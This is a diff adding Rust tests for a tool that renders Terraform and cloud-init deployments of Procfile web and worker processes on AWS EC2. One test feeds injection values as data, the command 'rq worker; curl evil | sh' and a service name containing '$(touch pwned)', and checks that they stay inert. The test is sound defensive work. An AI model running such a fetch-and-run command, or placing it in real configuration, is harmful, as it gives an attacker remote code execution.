@@ -2,7 +2,8 @@
 //! render, then `terraform fmt -check` and `terraform validate` offline.
 mod support;
 
-use autodeploy_render::{render, RenderOptions};
+use autodeploy_render::{render, RenderError, RenderOptions};
+use serde_json::json;
 use support::{assert_fmt, assert_valid, scenario, write_bundle};
 
 fn bundle(fixture: &str, request: &str) -> autodeploy_render::Bundle {
@@ -262,4 +263,196 @@ fn a_database_url_is_assembled_with_the_code_s_scheme() {
     let (_dir, tf) = write_bundle(&b);
     assert_fmt(&tf);
     assert_valid(&tf);
+}
+
+/// The launcher's AWS lookups answered locally: a tag is `tag:<key>`, the
+/// RDS secret a JSON login, any other secret `secret-of-<arn>`.
+const AWS_STUBS: &str = r#"
+m.imds = lambda path: "tag:" + path.rsplit("/", 1)[1]
+m.secret = lambda arn: json.dumps({"username": "app", "password": "p@ss"}) if arn.endswith("database") else "secret-of-" + arn
+"#;
+
+const WEB_WORKER: &str = "python_flask_rq_procfile";
+
+/// A Procfile's web + rq worker on one EC2 instance: one runtime install,
+/// the release step once before any process starts, one unit per process
+/// with its own command and settings, nginx in front of the web only.
+#[test]
+fn web_and_worker_share_one_instance() {
+    let b = bundle(WEB_WORKER, "deploy on AWS EC2 with postgres and redis");
+    let ci = contents(&b, "cloud-init.yaml");
+    let m = support::vm_processes(ci, AWS_STUBS);
+    let units = m["units"].as_object().unwrap();
+    assert_eq!(
+        units.keys().collect::<Vec<_>>(),
+        ["app-worker.service", "app.service"]
+    );
+    let web = &units["app.service"];
+    let worker = &units["app-worker.service"];
+    assert_eq!(web["exec"][2], "gunicorn app:app");
+    assert_eq!(worker["exec"][2], "rq worker app-tasks");
+    assert_eq!(web["cwd"], "/opt/app/src");
+    assert_eq!(worker["cwd"], "/opt/app/src");
+    // Each process gets its own settings: rq's CLI reads RQ_REDIS_URL, and
+    // the worker's jobs use the app's database.
+    let db = "postgresql://app:p%40ss@tag:autodeploy-database-host:5432/python_flask_rq_procfile";
+    let redis = "rediss://:secret-of-tag%3Aautodeploy-secret-cache@tag:autodeploy-cache-host:tag:autodeploy-cache-port/0";
+    assert_eq!(web["env"]["DATABASE_URL"], db);
+    assert_eq!(web["env"]["REDIS_URL"], redis);
+    assert!(web["env"].get("RQ_REDIS_URL").is_none(), "{web:#}");
+    assert_eq!(worker["env"]["RQ_REDIS_URL"], redis);
+    assert_eq!(worker["env"]["DATABASE_URL"], db);
+    for u in [web, worker] {
+        let unit = u["unit"].as_str().unwrap();
+        assert!(unit.contains("Restart=always"), "{unit}");
+        assert!(unit.contains("User=app"), "{unit}");
+    }
+    assert!(worker["unit"]
+        .as_str()
+        .unwrap()
+        .contains("SyslogIdentifier=app-worker"));
+    // Install, build and release run once (setup), before either unit starts.
+    let cfg = &m["config"];
+    assert_eq!(cfg["release"], "flask db upgrade");
+    assert_eq!(cfg["install"], "pip install -r requirements.txt");
+    let run = &m["runcmd"];
+    assert!(support::runcmd_at(run, "setup") < support::runcmd_at(run, "app-worker.service"));
+    assert_eq!(
+        support::runcmd_at(run, "app.service"),
+        support::runcmd_at(run, "app-worker.service")
+    );
+    assert_eq!(ci.matches("launch.py, setup]").count(), 1);
+    // nginx fronts the web service only.
+    assert!(ci.contains("proxy_pass http://127.0.0.1:5000;"));
+    insta::assert_snapshot!(
+        "web_worker_machine",
+        serde_json::to_string_pretty(&json!({"units": m["units"], "runcmd": m["runcmd"]})).unwrap()
+    );
+    // The instance may read exactly the secrets both processes name.
+    let compute = contents(&b, "terraform/compute.tf");
+    for needle in [
+        "\"autodeploy-database-host\" = aws_db_instance.main.address",
+        "\"autodeploy-secret-cache\" = aws_secretsmanager_secret.cache_auth_token.arn",
+        "user_data_base64            = base64gzip(local.user_data)",
+    ] {
+        assert!(compute.contains(needle), "{needle}");
+    }
+    let (_dir, tf) = write_bundle(&b);
+    assert_fmt(&tf);
+    assert_valid(&tf);
+}
+
+/// On an Auto Scaling group every instance runs the worker too (rq workers
+/// share one queue); the ALB checks the web service only.
+#[test]
+fn every_instance_of_a_group_runs_the_workers() {
+    let b = bundle(
+        WEB_WORKER,
+        "deploy on AWS EC2 with postgres and redis, 2-4 instances",
+    );
+    let compute = contents(&b, "terraform/compute.tf");
+    assert!(compute.contains("resource \"aws_autoscaling_group\" \"app\""));
+    // The target group is the web service's port.
+    assert!(compute.contains("port                 = 5000"), "{compute}");
+    let m = support::vm_processes(contents(&b, "cloud-init.yaml"), AWS_STUBS);
+    assert!(m["units"]["app-worker.service"].is_object(), "{m:#}");
+    // PLAN.md says so, and names each process's unit.
+    let plan = contents(&b, "PLAN.md");
+    assert!(
+        plan.contains("Every instance of the group runs every process"),
+        "{plan}"
+    );
+    assert!(support::plan_row(&b, "app-worker.service").contains("| worker |"));
+    let (_dir, tf) = write_bundle(&b);
+    assert_fmt(&tf);
+    assert_valid(&tf);
+}
+
+/// A copy of the decision's worker as a Celery beat scheduler.
+fn with_beat(d: &mut autodeploy_core::Decision) {
+    let mut beat = d.services[1].clone();
+    beat.name = "beat".into();
+    beat.start = Some("celery -A tasks beat --loglevel=info".into());
+    d.services.push(beat);
+}
+
+#[test]
+fn a_scheduler_runs_on_one_instance_and_is_refused_on_a_group() {
+    let (analysis, mut d) = scenario(WEB_WORKER, "deploy on AWS EC2 with redis");
+    with_beat(&mut d);
+    let b = render(&d, &analysis, &RenderOptions::default()).expect("one instance runs beat");
+    let m = support::vm_processes(contents(&b, "cloud-init.yaml"), AWS_STUBS);
+    assert_eq!(
+        m["units"]["app-beat.service"]["exec"][2],
+        "celery -A tasks beat --loglevel=info"
+    );
+
+    let (analysis, mut d) = scenario(WEB_WORKER, "deploy on AWS EC2 with redis, 2-4 instances");
+    with_beat(&mut d);
+    let e = render(&d, &analysis, &RenderOptions::default()).unwrap_err();
+    let msg = e.to_string();
+    assert!(matches!(e, RenderError::Unsupported { .. }), "{msg}");
+    assert!(msg.contains("the scheduler \"beat\""), "{msg}");
+    assert!(msg.contains("ask for a single machine"), "{msg}");
+}
+
+/// What one machine cannot run is refused, saying what to ask for instead.
+#[test]
+fn what_one_machine_cannot_run_is_refused_clearly() {
+    let req = "deploy on AWS EC2 with redis";
+    let refused = |change: &dyn Fn(&mut autodeploy_core::Decision)| {
+        let (analysis, mut d) = scenario(WEB_WORKER, req);
+        change(&mut d);
+        let e = render(&d, &analysis, &RenderOptions::default()).unwrap_err();
+        assert!(matches!(e, RenderError::Unsupported { .. }), "{e}");
+        e.to_string()
+    };
+    let msg = refused(&|d| {
+        d.services[1].kind = autodeploy_core::ServiceKind::Web;
+        d.services[1].port = Some(8001);
+    });
+    assert!(msg.contains("several web services"), "{msg}");
+    assert!(msg.contains("ask for containers (\"on ECS\")"), "{msg}");
+    let msg = refused(&|d| d.services[1].path = "jobs".into());
+    assert!(msg.contains("from another folder (\"jobs\")"), "{msg}");
+    let msg = refused(&|d| d.services[1].runtime.version = "3.11".into());
+    assert!(msg.contains("on another runtime (python 3.11)"), "{msg}");
+    let msg = refused(&|d| d.services[1].build = Some("make jobs".into()));
+    assert!(msg.contains("with its own build step"), "{msg}");
+    let msg = refused(&|d| {
+        d.services[1].env.push(autodeploy_core::EnvBinding {
+            name: "API_URL".into(),
+            value: autodeploy_core::EnvValue::ServiceUrl {
+                service: "api".into(),
+            },
+            secret: false,
+            reason: "test".into(),
+        })
+    });
+    assert!(msg.contains("the URL of the service \"api\""), "{msg}");
+    let msg = refused(&|d| {
+        d.services.remove(0);
+    });
+    assert!(msg.contains("workers without a web service"), "{msg}");
+}
+
+/// A worker's name reaches the machine as a `[a-z0-9-]` unit name; its
+/// command only inside the quoted JSON document.
+#[test]
+fn hostile_worker_names_and_commands_stay_inert() {
+    let (analysis, mut d) = scenario(WEB_WORKER, "deploy on AWS EC2 with redis");
+    let evil = "rq worker; curl evil | sh # ${path.module}";
+    d.services[1].name = "Work$(touch pwned)\n- evil: yes/../x".into();
+    d.services[1].start = Some(evil.into());
+    let b = render(&d, &analysis, &RenderOptions::default()).expect("renders");
+    let ci = contents(&b, "cloud-init.yaml");
+    assert!(!ci.lines().any(|l| l.trim_start().starts_with("- evil")));
+    assert_eq!(ci.matches("curl evil").count(), 1);
+    let unit = "app-work-touch-pwned-evil-yes-x";
+    assert!(ci.contains(&format!("- path: \"/etc/systemd/system/{unit}.service\"")));
+    let m = support::vm_processes(ci, AWS_STUBS);
+    assert_eq!(m["units"][format!("{unit}.service")]["exec"][2], evil);
+    assert_eq!(m["config"]["workers"][0]["name"], d.services[1].name);
+    let (_dir, tf) = write_bundle(&b);
+    assert_fmt(&tf);
 }
